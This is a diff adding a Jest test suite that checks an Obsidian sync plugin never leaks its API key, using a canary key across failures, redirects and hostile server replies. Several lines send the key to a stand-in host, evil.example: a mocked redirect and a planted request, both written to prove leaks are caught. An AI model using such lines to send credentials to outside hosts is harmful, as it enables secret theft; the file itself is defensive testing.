@@ -1,0 +1,205 @@
+// A canary key lies in Obsidian's secret storage and is driven through every failure that the plugin knows, by servers
+// that repeat it. It is in one header of requests to the confirmed address, and in nothing that is shown, said or kept.
+import { openDB } from "idb";
+import { Notice, requestUrl } from "../../support/obsidian";
+import { canary, echoesOf, holdsCanary } from "../../support/api/canary";
+import { ADDRESS, SECRET } from "../../support/plugin/plugin-fixture";
+import { wireAccount, wireDecision, wireMeeting, wirePage } from "../../support/api/wire-samples";
+import { overhear, type Overheard, type Reply } from "./overhear";
+
+afterEach(() => void jest.restoreAllMocks());
+
+const ORIGIN = new URL(ADDRESS).origin;
+const echo = echoesOf(canary).join(" ");
+
+/** The plugin on a device whose user confirmed the address. */
+async function connected({ key = canary, patience = 5_000 } = {}): Promise<Overheard> {
+  const overheard = await overhear({ data: { baseUrl: ADDRESS }, key, patience });
+  const { screen, until } = overheard;
+  await until(() => screen.has("Confirm the new address"));
+  await screen.press("Confirm the new address");
+  return overheard;
+}
+
+async function expectSecrecy({ told, sent }: Overheard): Promise<void> {
+  const traces = (await told()).split("\n").filter(holdsCanary);
+  expect(traces).toEqual([]);
+  for (const { headers, ...rest } of sent) {
+    expect(new URL(rest.url).origin).toBe(ORIGIN);
+    const { authorization, ...others } = headers ?? {};
+    expect(authorization).toBe(`Bearer ${canary}`);
+    expect(holdsCanary(JSON.stringify([rest, others]))).toBe(false);
+  }
+}
+
+const answering =
+  (body: unknown): Reply =>
+  () => ({ status: 200, body: JSON.stringify(body) });
+const isAuth = ({ url }: { url: string }) => url.endsWith("/auth");
+const ordinary: Reply = (request) => answering(isAuth(request) ? wireAccount() : wirePage())(request);
+
+const failing =
+  (status: number, body = JSON.stringify({ error: echo, retryAfter: echo })): Reply =>
+  () => ({ status, body, headers: { "Retry-After": echo, "X-RateLimit-Reset": echo, "Set-Cookie": echo } });
+
+const throwing =
+  (text: string): Reply =>
+  () => {
+    const cause = Object.assign(new Error(text), { code: canary });
+    throw Object.assign(new Error(`${text} ${echo}`, { cause }), { headers: { authorization: canary } });
+  };
+
+const silence: Reply = () => new Promise(() => undefined);
+
+const statuses = [204, 400, 401, 403, 404, 407, 408, 413, 429, 500, 503, 999];
+const failures: readonly (readonly [what: string, reply: Reply])[] = [
+  ...statuses.map((status) => [`status ${status}`, failing(status)] as const),
+  ["a redirect", () => ({ status: 302, headers: { Location: `https://evil.example/${encodeURIComponent(echo)}` } })],
+  ["a refused redirect", throwing("net::ERR_UNSAFE_REDIRECT")],
+  ["no server", throwing("net::ERR_CONNECTION_REFUSED")],
+  ["headers that are none", () => ({ status: 200, headers: { "X-Key": `${echo}\u0000` } })],
+  ["a key that is not valid", answering({ valid: false, error: echo })],
+  ["a web page", failing(200, `<html><title>${echo}</title>${echo}</html>`)],
+  ["broken JSON", failing(200, `{"meetings":"${echo}`)],
+  ["another shape", answering({ valid: true, userId: [echo], meetings: echo })],
+  ["an answer of 21 MB", failing(200, echo.repeat(Math.ceil(21e6 / echo.length)))],
+  ["no answer", silence],
+];
+
+describe("The key is told to nobody when there comes", () => {
+  it.each(failures)("%s", async (_, reply) => {
+    const overheard = await connected({ patience: reply === silence ? 100 : 5_000 });
+    const { screen, run, app } = overheard;
+    await run("open-status");
+    overheard.reply = reply;
+    await screen.press("API key", "Check");
+    await run("sync-now");
+    overheard.reply = (request) => (isAuth(request) ? ordinary : reply)(request);
+    await run("full-sync");
+    await screen.press("Advanced");
+    await screen.press("Diagnostic report");
+    await expectSecrecy(overheard);
+    expect(overheard.sent.length).toBeGreaterThan(2);
+    expect(app.statusBarEl.textContent).toMatch(/failed/);
+  });
+});
+
+/** A meeting that repeats the key wherever a text can stand. */
+function telling(text: string, at: number): Record<string, unknown> {
+  const notesMarkdown = `---\ntags: [x, "${text}"]\n---\n\n# ${text}\n\n${text}\n`;
+  const texts = { fileName: `${text}.md`, folder: text, notesMarkdown };
+  const decisions = [wireDecision({ ...texts, decision: text })];
+  return wireMeeting({ ...texts, id: `0b0fa3a4-8a4d-4a3c-9d3e-6f0f2c1f7a1${at}`, title: text, decisions });
+}
+
+describe("A service that repeats the key", () => {
+  it("in meetings gets it into no note, name or record", async () => {
+    const overheard = await connected();
+    const { run, screen, notes } = overheard;
+    const account = wireAccount({ settings: { meetings_folder: echo, decisions_folder: echo, template_id: echo } });
+    const page = wirePage([...echoesOf(canary).map(telling), wireMeeting({ id: canary })]);
+    overheard.reply = (request) => answering(isAuth(request) ? account : page)(request);
+    await screen.press("API key", "Check");
+    await run("preview-sync");
+    await run("sync-now");
+    await run("open-status");
+    await expectSecrecy(overheard);
+    expect(notes().filter((path) => path.includes("•••"))).toHaveLength(12);
+  });
+
+  it("as the account's identifier is not believed", async () => {
+    const overheard = await connected();
+    overheard.reply = answering(wireAccount({ userId: canary }));
+    await overheard.screen.press("API key", "Check");
+    await overheard.run("sync-now");
+    await expectSecrecy(overheard);
+  });
+});
+
+describe("The key is not repeated, and asked for by nobody,", () => {
+  it.each([`${canary}\u0007`, `${canary} ключ`, canary.repeat(40)])("when it is none that can be sent", async (key) => {
+    const overheard = await overhear({ data: { baseUrl: ADDRESS }, key });
+    await overheard.screen.press("API key", "Check");
+    await overheard.run("sync-now");
+    await expectSecrecy(overheard);
+    expect(overheard.sent).toEqual([]);
+  });
+
+  it("when another address or another secret came with the vault", async () => {
+    const overheard = await connected();
+    const { app, run, screen } = overheard;
+    overheard.reply = ordinary;
+    await run("sync-now");
+    const before = overheard.sent.length;
+    app.secretStorage.setSecret("another", canary);
+    for (const data of [{ baseUrl: "https://evil.example/api" }, { baseUrl: ADDRESS, apiKeySecret: "another" }]) {
+      await app.vault.adapter.write(".obsidian/plugins/meeting-notes-sync/data.json", JSON.stringify(data));
+      await overheard.idle();
+      await run("sync-now");
+      await screen.press("API key", "Check");
+      await run("open-status");
+    }
+    await expectSecrecy(overheard);
+    expect(overheard.sent).toHaveLength(before);
+  });
+
+  it("when the plugin is switched off while the answer to a question is awaited", async () => {
+    const overheard = await connected();
+    const { app, plugin, screen, sent } = overheard;
+    let answer: (() => void) | undefined;
+    overheard.reply = () => new Promise((resolve) => (answer = () => resolve({ status: 503 })));
+    const pressed = screen.press("API key", "Check");
+    await overheard.until(() => answer !== undefined);
+    app.plugins.disable(plugin);
+    answer?.();
+    await pressed;
+    // More than the longest pause before another try.
+    for (const start = Date.now(); Date.now() < start + 600_000;) await app.settled();
+    expect(sent).toHaveLength(1);
+    await expectSecrecy(overheard);
+  });
+
+  it("when it was changed", async () => {
+    const overheard = await connected({ key: "the-key-that-was-there-before" });
+    overheard.reply = ordinary;
+    await overheard.run("sync-now");
+    overheard.app.secretStorage.setSecret(SECRET, canary);
+    overheard.reply = failing(401);
+    await overheard.run("sync-now");
+    const traces = (await overheard.told()).split("\n").filter((line) => /before/.test(line) || holdsCanary(line));
+    expect(traces).toEqual([]);
+  });
+});
+
+describe("A trace of the key would be noticed", () => {
+  it.each<[where: string, plant: (overheard: Overheard, text: string) => unknown]>([
+    ["a notice that is gone", (_, text) => new Notice(text).hide()],
+    ["the status bar", ({ app }, text) => app.statusBarEl.setText(text)],
+    ["a label", ({ app }, text) => app.statusBarEl.setAttr("aria-label", text)],
+    ["the console", (_, text) => console.warn(new Error("x", { cause: new Error(text) }))],
+    ["what is copied", (_, text) => navigator.clipboard.writeText(text)],
+    ["local storage", ({ app }, text) => app.saveLocalStorage("x", { text })],
+    ["data.json", ({ app }, text) => app.vault.adapter.write(".obsidian/plugins/meeting-notes-sync/data.json", text)],
+    [
+      "a database",
+      async (_, text) => {
+        const db = await openDB("x", 1, { upgrade: (made) => void made.createObjectStore("x") });
+        await db.put("x", text, "x");
+        db.close();
+      },
+    ],
+    ["a note", ({ app }, text) => app.vault.adapter.write("Note.md", text)],
+  ])("in %s", async (_, plant) => {
+    const overheard = await connected();
+    expect(holdsCanary(await overheard.told())).toBe(false);
+    await plant(overheard, echo);
+    expect(holdsCanary(await overheard.told())).toBe(true);
+  });
+
+  it("on the way to another address", async () => {
+    const overheard = await connected();
+    overheard.reply = ordinary;
+    await requestUrl({ url: "https://evil.example", headers: { authorization: `Bearer ${canary}` } });
+    await expect(expectSecrecy(overheard)).rejects.toThrow(/evil/);
+  });
+});
